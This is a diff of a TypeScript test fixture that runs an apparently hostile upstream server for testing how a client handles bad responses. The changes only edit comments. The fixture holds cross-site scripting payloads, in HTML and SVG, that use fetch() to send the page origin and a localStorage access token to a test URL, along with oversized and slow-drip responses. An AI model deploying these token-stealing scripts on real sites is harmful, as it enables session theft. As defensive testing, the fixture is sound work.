@@ -6,7 +6,7 @@ const LARGE = 300 * 1024 * 1024;
 const PIECE = Buffer.alloc(1024 * 1024, '"a",');
 const ELSEWHERE = 'https://elsewhere.example/login?accessToken=stolen';
 
-/** A document that takes the session of the origin it runs on, if it runs there. */
+/** A document that reports its origin's session if its script runs. */
 const thief = (url: string) =>
   `<script>fetch('${url}/stolen?' + location.origin + '&' + localStorage.getItem('accessToken'))</script><p>thief</p>`;
 const SVG = (url: string) => `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${url}/stolen?svg')</script></svg>`;
@@ -18,7 +18,6 @@ function drip(response: ServerResponse): void {
   response.on('close', () => clearInterval(timer));
 }
 
-/** Sends a body of 300 MB as fast as it is taken. */
 function pour(response: ServerResponse): void {
   let sent = 0;
   const more = () => {
@@ -35,7 +34,6 @@ function pour(response: ServerResponse): void {
 const JSON_TYPE = { 'content-type': 'application/json' };
 const envelope = (result: unknown) => JSON.stringify({ isSuccess: true, code: 'COMMON200', message: '', result });
 
-/** What a hostile or broken host may answer. */
 const FAULTS = {
   html: (response, url) => response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(thief(url)),
   'html with a failure': (response, url) => response.writeHead(500, { 'content-type': 'text/html' }).end(thief(url)),
@@ -93,14 +91,13 @@ export const HOSTILE_FAULTS = Object.keys(FAULTS) as readonly HostileFault[];
 
 export type HostileUpstream = {
   readonly url: string;
-  /** From now on each request is answered so. */
   be(fault: HostileFault): void;
-  /** What a script of it has sent home. */
+  /** Reports of scripts that ran. */
   readonly stolen: readonly string[];
   close(): void;
 };
 
-/** A host for `UPSTREAM_URL` that does whatever it is told to, and writes down what its scripts get hold of. */
+/** A hostile `UPSTREAM_URL` that records what its scripts steal. */
 export async function openHostileUpstream(): Promise<HostileUpstream> {
   let fault: HostileFault = 'html';
   const stolen: string[] = [];
